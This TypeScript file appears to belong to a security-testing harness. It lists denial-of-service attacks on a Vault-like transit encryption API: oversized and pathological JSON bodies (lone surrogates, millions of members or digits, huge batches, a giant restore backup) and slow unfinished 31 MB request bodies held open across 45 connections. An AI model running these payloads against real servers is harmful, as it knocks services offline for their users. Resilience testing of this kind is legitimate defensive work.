import type { Attack, Sent } from './target.ts'
import { counted, credential, dial, head, post } from './wire.ts'

const members = (count: number): string => {
  const texts: string[] = []
  for (let index = 0; index < count; index++) texts.push(`"m${index}":0`)
  return texts.join()
}
/** 13.7 MB: one lone surrogate among 990,000 members. */
const surrogate = (): string => `{${members(990_000)},"x":"\\ud800"}`
/** 22.8 MB: a million strings of 20 characters. */
const strings = (count: number, text: string): string => `{"a":[${Array(count).fill(`"${text}"`).join()}]}`
const batch = (items: number, reference = '"a"'): string =>
  `{"batch_input":[${Array(items).fill(`{"plaintext":"aGVsbG8=","reference":${reference}}`).join()}]}`
/** Of digits, which are base64 too. */
const plaintext = (length: number): string => '9'.repeat(length)
/** 18 MB: a backup, from which a key would be restored. */
const backup = (json: string): string => JSON.stringify({ backup: Buffer.from(json).toString('base64') })

const unfinished = 45
const heldBytes = 31 * 2 ** 20
const patienceMilliseconds = 10_000

/** Bodies that declare a little less than 32 MiB, and whose last bytes never come. */
async function hold(target: Parameters<Attack['run']>[0], token: string): Promise<Sent> {
  const piece = Buffer.alloc(2 ** 20, ' ')
  const open = await Promise.all(Array.from({ length: unfinished }, () => dial(target)))
  const text = head('POST', 'transit/encrypt/orders', { ...credential(token), 'Content-Length': heldBytes + 1 })
  let bytes = 0
  await Promise.all(
    open.map(async ({ socket, send }) => {
      await send(text)
      for (let sent = 0; sent < heldBytes && !socket.destroyed; sent += piece.length) {
        // The server may have stopped reading: then the kernel takes no more, and nothing is held.
        await Promise.race([send(piece), new Promise((resolve) => setTimeout(resolve, 2000))])
        bytes += piece.length
        if (socket.writableLength > 2 * piece.length) break
      }
    }),
  )
  const answers = await Promise.all(
    open.map(({ answer }) =>
      Promise.race([answer(), new Promise<string>((done) => setTimeout(done, patienceMilliseconds, 'held'))]),
    ),
  )
  for (const { socket } of open) socket.destroy()
  return { bytes, requests: unfinished, answers: counted(answers) }
}

/** One body, or a few, each costlier than its size suggests. */
export const bodies: readonly Attack[] = [
  {
    title: '990,000 members and a lone surrogate',
    run: (target) => post(target, 'transit/encrypt/orders', surrogate()),
  },
  {
    title: '990,000 members and a lone surrogate, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', surrogate(), target.rootToken),
  },
  {
    title: '22.8 MB of strings, refused',
    run: (target) => post(target, 'transit/encrypt/orders', strings(990_000, 'x'.repeat(20))),
  },
  {
    title: '22.8 MB of strings, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', strings(990_000, 'x'.repeat(20)), target.rootToken),
  },
  {
    title: '400 kB of short strings, refused',
    run: (target) => post(target, 'transit/encrypt/orders', strings(100_000, 'x')),
  },
  {
    title: '60 kB of short strings, refused',
    run: (target) => post(target, 'transit/encrypt/orders', `{"a":[${Array(20).fill(strings(750, 'x')).join()}]}`),
  },
  {
    title: '400 kB of short strings, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', strings(100_000, 'x'), target.rootToken),
  },
  {
    title: '12 kB of short strings, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', strings(3000, 'x'), target.rootToken),
  },
  {
    title: 'a batch of 200,000 items, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', batch(200_000), target.rootToken),
  },
  {
    title: 'a batch of 100,000 items, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', batch(100_000), target.rootToken),
  },
  {
    title: 'a batch of 20,000 lone surrogates, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', batch(20_000, '"\\ud800"'), target.rootToken),
  },
  {
    title: 'a batch of 20,000 numbers of 1,000 digits, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', batch(20_000, '9'.repeat(1000)), target.rootToken),
  },
  {
    title: 'a plaintext of 30 MB, signed in',
    run: (target) =>
      post(target, 'transit/encrypt/orders', `{"plaintext":"${plaintext(30_000_000)}"}`, target.rootToken),
  },
  {
    title: 'a number of 10 million digits, signed in',
    run: (target) => post(target, 'transit/encrypt/orders', `{"plaintext":${plaintext(10_000_000)}}`, target.rootToken),
  },
  {
    title: 'a backup of a million members, signed in',
    run: (target) =>
      post(target, 'transit/restore/stormed', backup(`{"key":{${members(1_000_000)}}}`), target.rootToken),
  },
  { title: '45 unfinished bodies of 31 MB', run: (target) => hold(target, '') },
  { title: '45 unfinished bodies of 31 MB, signed in', run: (target) => hold(target, target.rootToken) },
]
